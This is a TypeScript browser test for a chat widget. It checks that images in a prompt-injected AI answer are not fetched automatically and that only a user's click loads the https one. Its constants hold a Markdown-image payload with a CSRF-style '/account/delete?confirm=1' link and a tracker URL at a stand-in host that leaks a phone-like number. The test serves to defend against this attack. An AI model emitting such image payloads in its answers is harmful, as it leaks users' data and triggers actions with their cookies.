/**
 * Issue 20 #4 in Chromium: an answer (here the sim's echo of a prompt-injected question) holding a
 * relative image (`/account/delete?confirm=1`, which the host page would send with its own cookies) and
 * an absolute one (a tracker) makes the browser fetch neither: placeholders show instead, and a click
 * loads the https one only. Website A's CSP allows both (`img-src 'self' https:`), so only the widget
 * stands between the answer and the requests; Playwright's network log is the witness.
 */
import { describe, expect, it } from 'vitest'
import type { Browser } from 'playwright-core'
import {
  ask,
  hasChromium,
  login,
  openWidget,
  suiteTitle,
  useDemo,
  waitForAnswer,
  WAIT,
} from './support/browser'
import type { Demo } from './support/demo'

const RELATIVE = '/account/delete?confirm=1'
const TRACKER = 'https://tracker.example/p.gif?leak=13800138000'
const QUESTION = `请看图 ![](${RELATIVE}) 和 ![](${TRACKER})`

describe.skipIf(!hasChromium)(suiteTitle('images in answers'), () => {
  let demo: Demo
  let browser: Browser

  useDemo({}, (d, b) => {
    demo = d
    browser = b
  })

  it('should fetch no image from an answer, show placeholders, and load the https one on a click', async () => {
    const expected = demo.stack.sim.answerFor(QUESTION)
    // The sim does answer with both images (it quotes the question as Markdown).
    expect(expected.text).toContain(`![](${RELATIVE})`)
    expect(expected.text).toContain(`![](${TRACKER})`)

    const { page, requests, pageErrors } = await login(browser, demo)
    await openWidget(page)
    await ask(page, QUESTION)
    expect(await waitForAnswer(page, 1)).toMatchObject({ status: 'completed', answer: expected.text })

    const answer = page.locator('volcano-chat .vc-answer').last()
    const click = answer.locator('button.vc-img-ph[data-vc-img]')
    const blocked = answer.locator('span.vc-img-ph.vc-img-blocked')
    await expect.poll(() => click.count(), WAIT).toBeGreaterThan(0)
    expect(await blocked.count()).toBeGreaterThan(0)
    expect(await answer.locator('img').count()).toBe(0)
    expect(await click.first().innerText()).toContain('tracker.example')
    expect(await click.first().getAttribute('data-vc-img')).toBe(TRACKER)

    const fetched = (what: string) => requests.filter((r) => r.includes(what))
    expect(fetched('/account/delete')).toEqual([])
    expect(fetched('tracker.example')).toEqual([])

    // The reader's click loads the absolute https image; the relative one has nothing to click.
    await blocked.first().click()
    await click.first().click()
    await expect.poll(() => fetched('tracker.example'), WAIT).toEqual([`GET ${TRACKER}`])
    expect(await answer.locator(`img[src="${TRACKER}"]`).count()).toBeGreaterThan(0)
    expect(fetched('/account/delete')).toEqual([])
    expect(pageErrors).toEqual([])
    await page.context().close()
  })
})
